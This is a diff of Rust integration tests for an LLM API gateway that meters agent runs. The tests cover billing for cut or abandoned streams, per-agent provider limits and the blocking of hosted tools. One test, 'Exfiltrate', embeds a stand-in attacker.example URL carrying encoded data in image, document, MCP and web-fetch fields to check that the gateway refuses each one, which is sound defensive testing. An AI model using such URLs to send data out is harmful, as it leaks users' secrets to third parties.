@@ -32,6 +32,7 @@ fn prices() -> BTreeMap<String, Price> {
         output_per_mtok: 15.0,
         cache_read_per_mtok: Some(0.3),
         cache_write_per_mtok: None,
+        web_search_usd: None,
     };
     BTreeMap::from([(MODEL.to_owned(), price.clone()), (GPT.to_owned(), price)])
 }
@@ -407,12 +408,14 @@ async fn forged_keys_unmetered_routes_oversized_bodies_and_unpriced_models_are_r
 }
 
 #[tokio::test]
-async fn a_stream_cut_by_the_provider_or_left_by_the_client_still_counts_what_passed() {
+async fn a_stream_cut_by_the_provider_is_charged_its_reservation_and_one_left_by_the_client_what_it_billed()
+ {
     let s = setup(|_| {}).await;
     let run = started(&s, "Interrupted").await;
 
-    // The provider breaks the stream after its first events: the run sees a failure, the
-    // input is counted.
+    // The provider breaks the stream after its first events: the run sees a failure; what
+    // the provider generated is unknown, so the call is charged its reservation (its
+    // `max_tokens` of 64), never less than the input it reported.
     s.provider.cut_next();
     let release = s.provider.hold_streams();
     let answer = run.anthropic(message(true)).send().await.expect("answered");
@@ -434,21 +437,10 @@ async fn a_stream_cut_by_the_provider_or_left_by_the_client_still_counts_what_pa
     assert!(failed, "the run sees the stream break");
     assert!(!String::from_utf8_lossy(&got).contains("message_stop"));
     let usage = metered_calls(&s, &run, 1).await;
-    // The input as reported; the output at least the text that passed (three bytes a
-    // token; here the provider's cut takes the events before it with it), though the
-    // stream never reported it.
-    let seen = String::from_utf8_lossy(&got);
-    let text: u64 = [("\"Hello\"", 5), ("\" world\"", 6)]
-        .iter()
-        .filter(|(t, _)| seen.contains(t))
-        .map(|(_, n)| n)
-        .sum();
-    assert_eq!(
-        (usage.input_tokens, usage.output_tokens),
-        (1000, text.div_ceil(3).max(1))
-    );
+    assert_eq!((usage.input_tokens, usage.output_tokens), (1000, 64));
 
-    // The client leaves mid-stream: what passed still counts.
+    // The client leaves mid-stream: the provider goes on, and so does the gateway's read,
+    // until the usage the provider bills (1,000 in, 100 out) arrives.
     let release = s.provider.hold_streams();
     let answer = run.anthropic(message(true)).send().await.expect("answered");
     let mut chunks = answer.bytes_stream();
@@ -457,7 +449,219 @@ async fn a_stream_cut_by_the_provider_or_left_by_the_client_still_counts_what_pa
     drop(chunks);
     release.notify_one();
     let usage = metered_calls(&s, &run, 2).await;
-    assert_eq!(usage.input_tokens, 2000);
+    assert_eq!((usage.input_tokens, usage.output_tokens), (2000, 164));
+}
+
+#[tokio::test]
+async fn reasoning_behind_a_hung_up_stream_is_charged_as_the_provider_bills_it() {
+    let s = setup(|_| {}).await;
+    let run = started(&s, "Think hard").await;
+    // The model thinks for 50,000 tokens no text shows; the agent hangs up at the first
+    // event, as soon as it sees the answer started.
+    s.provider.set_tokens(director_testkit::provider::Tokens {
+        input: 1000,
+        cached: 0,
+        output: 50_000,
+    });
+    let release = s.provider.hold_streams();
+    let body = json!({ "model": MODEL, "max_tokens": 64_000, "stream": true,
+        "thinking": {"type": "enabled", "budget_tokens": 60_000},
+        "messages": [{ "role": "user", "content": "Hello" }] });
+    let answer = run.anthropic(body).send().await.expect("answered");
+    let mut chunks = answer.bytes_stream();
+    chunks.next().await.expect("a chunk").expect("bytes");
+    drop(chunks);
+    release.notify_one();
+    let usage = metered_calls(&s, &run, 1).await;
+    // Billed: 1,000 in and 50,000 out, $0.753. What passed before the hang-up would have
+    // charged ~$0.003 (the hole); the reservation alone, 64,000 out, $0.963.
+    assert_eq!((usage.input_tokens, usage.output_tokens), (1000, 50_000));
+    let cost = usage.cost_usd.expect("priced");
+    assert!((cost - 0.753).abs() < 1e-9, "{cost}");
+}
+
+#[tokio::test]
+async fn a_hung_up_call_still_running_at_the_drain_bound_is_charged_its_reservation() {
+    let s = setup(|s| s.models.drain_secs = 1).await;
+    let run = started(&s, "Never ends").await;
+    // Held and never released: the provider is still generating when the bound passes.
+    let _held = s.provider.hold_streams();
+    let answer = run
+        .openai("chat/completions", chat(4000))
+        .send()
+        .await
+        .expect("answered");
+    let mut chunks = answer.bytes_stream();
+    chunks.next().await.expect("a chunk").expect("bytes");
+    drop(chunks);
+    let usage = metered_calls(&s, &run, 1).await;
+    assert_eq!(
+        usage.output_tokens, 4000,
+        "its whole output limit: {usage:?}"
+    );
+    s.t.app
+        .wait_for_metric(
+            r#"director_model_usage_estimated_total{provider="openai",reason="cut"} 1"#,
+        )
+        .await;
+}
+
+#[tokio::test]
+async fn content_the_provider_would_fetch_and_tools_it_would_run_never_leave_the_gateway() {
+    let s = setup(|_| {}).await;
+    let run = started(&s, "Exfiltrate").await;
+    let leak = "https://attacker.example/x.png?d=c2VjcmV0LXNvdXJjZQ";
+    // An OpenAI image by URL: the provider's servers would fetch it, with the data in it.
+    let answer = run
+        .openai(
+            "chat/completions",
+            json!({"model": GPT, "max_tokens": 10, "messages": [{"role": "user", "content": [
+                {"type": "text", "text": "describe"},
+                {"type": "image_url", "image_url": {"url": leak}}]}]}),
+        )
+        .send()
+        .await
+        .expect("answered");
+    assert_eq!(answer.status(), 400);
+    let v: Value = answer.json().await.expect("json");
+    assert_eq!(v["error"]["type"], "invalid_request_error");
+    let said = v["error"]["message"].as_str().unwrap_or_default();
+    assert!(
+        said.contains("messages[0].content[1].image_url.url"),
+        "{said}"
+    );
+    assert!(
+        !said.contains("attacker.example"),
+        "the refusal does not echo the URL: {said}"
+    );
+    // An Anthropic document by URL, an MCP server, a web fetch tool, a beta that opens
+    // the Files API: each refused in Anthropic's shape, naming what.
+    let refused = [
+        (
+            json!({"model": MODEL, "max_tokens": 10, "messages": [{"role": "user", "content": [
+                {"type": "document", "source": {"type": "url", "url": leak}}]}]}),
+            None,
+            "messages[0].content[0].source.type",
+        ),
+        (
+            json!({"model": MODEL, "max_tokens": 10, "messages": [],
+                "mcp_servers": [{"type": "url", "url": leak, "name": "x"}]}),
+            Some("mcp-client-2025-04-04"),
+            "anthropic-beta",
+        ),
+        (
+            json!({"model": MODEL, "max_tokens": 10, "messages": [],
+                "mcp_servers": [{"type": "url", "url": leak, "name": "x"}]}),
+            None,
+            "mcp_servers",
+        ),
+        (
+            json!({"model": MODEL, "max_tokens": 10, "messages": [],
+                "tools": [{"type": "web_fetch_20250910", "name": "web_fetch"}]}),
+            None,
+            "tools[0].type",
+        ),
+    ];
+    for (body, beta, field) in refused {
+        let mut call = run.anthropic(body);
+        if let Some(beta) = beta {
+            call = call.header("anthropic-beta", beta);
+        }
+        let answer = call.send().await.expect("answered");
+        assert_eq!(answer.status(), 400, "{field}");
+        let v: Value = answer.json().await.expect("json");
+        assert_eq!(v["type"], "error");
+        assert_eq!(v["error"]["type"], "invalid_request_error");
+        let said = v["error"]["message"].as_str().unwrap_or_default();
+        assert!(said.contains(field), "{field}: {said}");
+    }
+    // A Responses call that continues a context stored with the provider.
+    let answer = run
+        .openai(
+            "responses",
+            json!({"model": GPT, "input": "go on", "previous_response_id": "resp_big"}),
+        )
+        .send()
+        .await
+        .expect("answered");
+    assert_eq!(answer.status(), 400);
+    assert!(
+        answer
+            .text()
+            .await
+            .expect("text")
+            .contains("previous_response_id")
+    );
+    assert!(
+        s.provider.requests().is_empty(),
+        "nothing refused reached the provider: {:?}",
+        s.provider.requests()
+    );
+    // An inline image goes.
+    let answer = run
+        .anthropic(json!({"model": MODEL, "max_tokens": 10, "messages": [{"role": "user", "content": [
+            {"type": "image", "source": {"type": "base64", "media_type": "image/png", "data": "iVBORw0KGgo="}}]}]}))
+        .header("anthropic-beta", "prompt-caching-2024-07-31")
+        .send()
+        .await
+        .expect("answered");
+    assert_eq!(answer.status(), 200);
+    assert_eq!(s.provider.requests().len(), 1);
+}
+
+#[tokio::test]
+async fn an_operator_may_open_a_hosted_tool_by_name_and_its_searches_are_charged() {
+    let s = setup(|s| s.models.allow_server_tools = vec!["web_search".into()]).await;
+    let run = started(&s, "Search").await;
+    let body = json!({"model": MODEL, "max_tokens": 10, "messages": [],
+        "tools": [{"type": "web_search_20250305", "name": "web_search", "max_uses": 1}]});
+    let answer = run.anthropic(body).send().await.expect("answered");
+    assert_eq!(answer.status(), 200);
+    let other = json!({"model": MODEL, "max_tokens": 10, "messages": [],
+        "tools": [{"type": "code_execution_20250825", "name": "code_execution"}]});
+    let answer = run.anthropic(other).send().await.expect("answered");
+    assert_eq!(answer.status(), 400, "only what was opened");
+}
+
+#[tokio::test]
+async fn a_run_whose_agent_talks_to_one_provider_cannot_spend_on_the_other() {
+    let s = setup(|s| {
+        s.agents.insert(
+            "claude-only".into(),
+            director::settings::agents::AgentSettings {
+                image: "director-test/agent".into(),
+                providers: vec!["anthropic".into()],
+                ..Default::default()
+            },
+        );
+        s.runner.agent = "claude-only".into();
+    })
+    .await;
+    let run = started(&s, "One provider").await;
+    // Its environment names only Anthropic's gateway; OpenAI's is one path away.
+    let base = run.var("ANTHROPIC_BASE_URL");
+    let openai = base.replace("/anthropic", "/openai");
+    let answer = crate::helpers::http_client()
+        .post(format!("{openai}/chat/completions"))
+        .bearer_auth(run.var("ANTHROPIC_API_KEY"))
+        .json(&chat(10))
+        .send()
+        .await
+        .expect("answered");
+    assert_eq!(answer.status(), 403);
+    assert!(
+        answer
+            .text()
+            .await
+            .expect("text")
+            .contains("agents.claude-only.providers")
+    );
+    let answer = run
+        .anthropic(message(false))
+        .send()
+        .await
+        .expect("answered");
+    assert_eq!(answer.status(), 200);
 }
 
 #[tokio::test]
@@ -620,11 +824,11 @@ fn chat(max_tokens: u64) -> Value {
 }
 
 #[tokio::test]
-async fn a_client_that_hangs_up_before_the_usage_chunk_is_charged_what_passed() {
+async fn a_client_that_hangs_up_before_the_usage_chunk_is_charged_what_the_provider_reports() {
     let s = setup(|_| {}).await;
     let run = started(&s, "Leave early").await;
     // OpenAI reports a stream's usage in its last chunk only: the agent reads the first and
-    // hangs up.
+    // hangs up. The gateway reads on to that chunk.
     let release = s.provider.hold_streams();
     let answer = run
         .openai("chat/completions", chat(64))
@@ -638,18 +842,7 @@ async fn a_client_that_hangs_up_before_the_usage_chunk_is_charged_what_passed() 
     drop(chunks);
     release.notify_one();
     let usage = metered_calls(&s, &run, 1).await;
-    assert!(usage.input_tokens > 0, "the request is charged: {usage:?}");
-    assert!(usage.cost_usd.is_some_and(|c| c > 0.0), "{usage:?}");
-    // The gateway learns of the hang-up when it next writes: if the rest of the stream came
-    // first, the provider's own usage was read (1,000 in); otherwise the call was cut and
-    // charged an estimate, said in the metric.
-    if usage.input_tokens != 1000 {
-        s.t.app
-            .wait_for_metric(
-                r#"director_model_usage_estimated_total{provider="openai",reason="cut"} 1"#,
-            )
-            .await;
-    }
+    assert_eq!((usage.input_tokens, usage.output_tokens), (1000, 100));
 }
 
 #[tokio::test]
